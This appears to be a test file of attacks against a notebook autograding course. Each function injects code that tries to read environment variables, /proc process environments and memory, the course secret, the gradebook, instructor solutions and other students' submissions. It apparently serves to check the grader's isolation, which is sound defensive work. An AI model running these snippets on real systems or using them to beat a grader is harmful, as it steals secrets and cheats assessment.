"""What a student should not get to see: secrets, answers, and others' work."""

from attacks import attack


@attack()
def print_everything_in_sight(work):
    """Prints its environment, its arguments, its history and what its parents are called."""
    work.add(
        """
import os, sys, glob
print(dict(os.environ), sys.argv, sys.orig_argv, sys.path, get_ipython().user_ns["In"][-3:])
for path in glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ"):
    try:
        print(path, open(path, "rb").read()[:300])
    except OSError:
        pass
"""
    )


@attack(loses=["conv2d"])
def print_the_cases(work):
    """Prints the graded cases and hands them to a later cell."""
    work.conv2d("SEEN.append(x)", "print('case', x.shape, x.sum())", "return np.zeros(1)")
    work.add("SEEN = []", before="conv2d")
    work.add("print(len(SEEN), get_ipython().user_ns['In'][-2])", after="check_conv2d")


@attack()
def read_the_secret(work):
    """Reads the course secret, from which all graded cases are drawn."""
    work.add(_read("$COURSE/classroom/secret"))


@attack()
def read_the_gradebook(work):
    """Reads the gradebook and the configuration."""
    work.add(_read("$COURSE/classroom/gradebook.db", "$COURSE/nbgrader_config.py"))


@attack()
def read_the_solutions(work):
    """Reads the instructor's solutions, by their path and by looking around."""
    work.add(
        _read("$COURSE/solutions/04_convolution/04_convolution.ipynb")
        + "\nimport os\nfor top in ('..', '../..', '../../..', '/', '/work', '/home', '/root'):"
        "\n    try:\n        print(top, len(os.listdir(top)))"
        "\n        for name in os.listdir(top):"
        "\n            if 'solutions' in name: print('LEAKED', name)"
        "\n    except OSError as e:\n        print(top, e)"
    )


@attack()
def read_other_students(work):
    """Reads what another student has handed in, and got back."""
    work.add(
        _read(
            "$COURSE/classroom/submitted/honest_01/04_convolution/04_convolution.ipynb",
            "$COURSE/classroom/autograded/honest_01/04_convolution/04_convolution.ipynb",
        )
    )


@attack()
def read_the_package(work):
    """Reads the judge, the references and the tests from where the course is installed."""
    work.add(
        _read("$PROJECT/cnncourse/checker.py", "$PROJECT/cnncourse/reference/layers.py")
        + "\nimport cnncourse, pathlib\nfor p in pathlib.Path(cnncourse.__file__).parent"
        ".resolve().parent.iterdir():\n    if p.name in ('solutions', 'tests', '.git'): "
        "print('LEAKED', p)"
    )


@attack()
def read_other_processes(work):
    """Reads the memory of its parents."""
    work.add(
        """
import os, re
found = 0
for pid in [os.getppid(), *range(1, 100), *[int(p) for p in os.listdir("/") if p.isdigit()]]:
    if pid == os.getpid():
        continue
    try:
        maps = open(f"/proc/{pid}/maps").read()
        memory = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        continue
    for line in maps.splitlines()[:400]:
        low, high = (int(n, 16) for n in line.split()[0].split("-"))
        if "rw" not in line or high - low > 64_000_000:
            continue
        try:
            memory.seek(low)
            if b"$TOKEN" in memory.read(high - low):
                found += 1
        except (OSError, ValueError, OverflowError):
            pass
print("LEAKED" if found else "nothing found")
"""
    )


def _read(*paths):
    return (
        f"for path in {list(paths)!r}:\n"
        "    try:\n        print('LEAKED', open(path, 'rb').read()[:100_000])\n"
        "    except OSError as e:\n        print(type(e).__name__)"
    )
